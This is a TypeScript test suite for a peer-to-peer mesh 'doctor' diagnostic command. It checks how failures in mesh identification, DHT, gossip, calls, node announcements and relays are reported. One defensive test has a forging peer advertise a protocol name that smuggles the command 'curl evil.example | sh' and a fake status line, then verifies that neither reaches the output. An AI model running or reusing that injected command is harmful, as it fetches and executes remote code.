/** Meshes in which one thing alone does not work: doctor finds that, and blames nothing else. */
import { expect } from 'chai'
import { createMesh } from '../../src/index.ts'
import { until } from '../harness/until.ts'
import { FakeTerminal, found } from './cli-shop.ts'
import { cbor } from './foreign-bytes.ts'
import { useForeign } from './foreign-land.ts'
import { ForeignPeer } from './foreign-peer.ts'
import type { Mesh } from '../../src/index.ts'

const KAD = '/braid/shop/kad/1.0.0'
const NODES = 'braid/shop/nodes'

/** Milliseconds for what works, and ends as soon as it does. */
const PATIENT = 30_000

interface Check { check: string, status: string, detail: string, advice?: string }

/** What such a peer does, which is all that doctor asks for, unless something of it is left out. */
interface Deeds { gossip?: boolean, subscribed?: boolean, dht?: boolean, answers?: boolean, greets?: boolean, roles?: string[] }

describe('braid-mesh doctor, where one thing does not work', function () {
  this.timeout(120_000)
  const { peers, meshes } = useForeign()

  async function node (options: Parameters<typeof createMesh>[0]): Promise<Mesh> {
    const mesh = await createMesh({ mesh: 'shop', ...options })
    meshes.push(mesh)
    return mesh
  }

  /** A peer that is the whole mesh. */
  async function peer ({ gossip = true, subscribed = gossip, dht = true, answers = true, greets = true, roles = [] }: Deeds): Promise<ForeignPeer> {
    const peer = await ForeignPeer.start({ mesh: 'shop', service: 'abroad', roles, gossip, ...dht ? { dht: 'server' as const } : {} })
    peers.push(peer)
    if (answers) peer.handlers.set('braid.ping', ({ respond }) => { respond([[3, 1], [4, cbor(1)]]) })
    if (subscribed) (peer.libp2p.services as unknown as { pubsub: { subscribe (topic: string): void } }).pubsub.subscribe(NODES)
    if (!greets) await peer.libp2p.unhandle(peer.protocol('discovery'))
    return peer
  }

  async function examined (addresses: string[], timeout: number): Promise<{ code: number, out: string, checks: Check[] }> {
    const { code, out } = await new FakeTerminal().run('doctor', '--mesh', 'shop', ...addresses.flatMap(address => ['--bootstrap', address]), '--timeout', String(timeout), '--json')
    return { code, out, checks: (JSON.parse(out) as { checks: Check[] }).checks }
  }

  /** {@link examined}, where one thing does not work: what works has its time, too. */
  async function faulty (expected: string, ...addresses: string[]): ReturnType<typeof examined> {
    const result = await found(async timeout => examined(addresses, timeout), ({ checks }) => told(checks) === expected)
    expect(told(result.checks), result.out).to.equal(expected)
    return result
  }

  /** All checks that were made, with what came of them, in the order in which they were. */
  function told (checks: readonly Check[]): string {
    return checks.map(({ check, status }) => `${check} ${status}`).join(', ')
  }

  const FINE = 'address ok, tcp ok, dial ok, mesh ok, call ok, nodes ok, dht ok, gossip ok, relay skipped'

  async function blamed (peer: ForeignPeer, culprit: string, hint: RegExp, fine = FINE): Promise<void> {
    const { code, checks } = await faulty(fine.replace(`${culprit} ok`, `${culprit} failed`), String(peer.libp2p.getMultiaddrs()[0]))
    const { detail, advice } = checks.find(({ check }) => check === culprit) ?? {}
    expect(`${detail}: ${advice}`).to.match(hint)
    // it can join all the same
    expect(code).to.equal(1)
  }

  it('finds nothing wrong with a peer that does all it asks for', async () => {
    const { code, out, checks } = await examined([String((await peer({})).libp2p.getMultiaddrs()[0])], PATIENT)
    expect(told(checks), out).to.equal(FINE)
    expect(code).to.equal(0)
  })

  it('mesh: it never says what it speaks, which is not to speak of no mesh', async () => {
    const mute = await peer({ greets: false, dht: false })
    await mute.libp2p.unhandle('/ipfs/id/1.0.0')
    await mute.libp2p.handle('/ipfs/id/1.0.0', () => {})
    const { code, checks } = await faulty('address ok, tcp ok, dial ok, mesh failed', String(mute.libp2p.getMultiaddrs()[0]))
    expect(checks.at(-1)?.detail).to.match(/^it did not say within \d+ ms what it is$/)
    expect(code).to.equal(3)
  })

  it('mesh: what it claims to be of prints no line, and no command to be typed', async () => {
    const forger = await ForeignPeer.start({ mesh: 'other' })
    peers.push(forger)
    await forger.libp2p.handle('/braid/x\nok      relay      shop  it gave this node a place/1', () => {})
    await forger.libp2p.handle('/braid/x; curl evil.example | sh/1', () => {})
    const { out } = await new FakeTerminal().run('doctor', '--mesh', 'shop', '--bootstrap', String(forger.libp2p.getMultiaddrs()[0]), '--timeout', String(PATIENT))
    expect(out).not.to.match(/^ok +relay/m).and.not.to.include('curl')
    expect(out).to.match(/^failed +mesh .*of mesh 'other', not 'shop': --mesh other$/m)
  })

  it('dht: nobody serves it', async () => {
    await blamed(await peer({ dht: false }), 'dht', /^no answer in \d+ ms: at least one node that is no browser tab/)
  })

  it('dht: who says that it serves it never answers', async () => {
    const mute = await peer({ dht: false })
    await mute.libp2p.handle(KAD, () => {})
    await blamed(mute, 'dht', /^no answer in \d+ ms/)
  })

  it('gossip: nobody speaks it, or nobody is in its topic', async () => {
    await blamed(await peer({ gossip: false }), 'gossip', /^nobody gossips with this node after \d+ ms: /)
    await blamed(await peer({ subscribed: false }), 'gossip', /^nobody gossips with this node after \d+ ms: /)
  })

  it('call: it is refused, or never answered', async () => {
    const refusing = await peer({ answers: false })
    await blamed(refusing, 'call', /no such method/)
    const mute = await peer({ answers: false })
    mute.handlers.set('braid.ping', () => {})
    await blamed(mute, 'call', /stopping, or overloaded\?$/)
  })

  it('nodes: it tells nothing of itself, and cannot be called for that', async () => {
    await blamed(await peer({ greets: false }), 'nodes', /^no word within \d+ ms of 12D3KooW\w+: /, FINE.replace('call ok', 'call skipped'))
  })

  it('nodes: one of two tells nothing of itself', async () => {
    const [good, mute] = await Promise.all([peer({}), peer({ greets: false })])
    const addresses = [good, mute].map(({ libp2p }) => String(libp2p.getMultiaddrs()[0]))
    const notFine = (checks: readonly Check[]): string => told(checks.filter(({ status }) => status !== 'ok'))
    const expected = 'call skipped, nodes failed, relay skipped'
    const { code, out, checks } = await found(async timeout => examined(addresses, timeout), ({ checks }) => notFine(checks) === expected)
    expect(notFine(checks), out).to.equal(expected)
    expect(checks.find(({ check }) => check === 'nodes')?.detail).to.include(mute.id).and.not.to.include(good.id)
    expect(code).to.equal(1)
  })

  it('relay: all its places are taken', async () => {
    const full = await node({ relay: { reservations: 1 }, listen: ['/ip4/127.0.0.1/tcp/0'] })
    const address = String(full.libp2p.getMultiaddrs()[0])
    const guest = await node({ listen: ['/p2p-circuit'], bootstrap: [address] })
    await until(() => guest.self.addresses.length > 0)
    const { code, checks } = await faulty(FINE.replace('relay skipped', 'relay failed'), address)
    expect(checks.at(-1)?.detail).to.include(`relay ${full.id} is full`)
    expect(checks.at(-1)?.advice).to.include('--reservations')
    expect(code).to.equal(1)
    // and there is one when that is gone
    await guest.stop()
    const later = await examined([address], PATIENT)
    expect(told(later.checks), later.out).to.equal(FINE.replace('relay skipped', 'relay ok'))
    expect(later.code).to.equal(0)
  })

  it('relay: there is one, of which this machine gets no answer', async () => {
    const { code, checks } = await faulty(FINE.replace('relay skipped', 'relay failed'), String((await peer({ roles: ['relay'] })).libp2p.getMultiaddrs()[0]))
    expect(checks.at(-1)?.advice).to.include('--bootstrap').and.not.to.include('--reservations')
    expect(code).to.equal(1)
  })
})
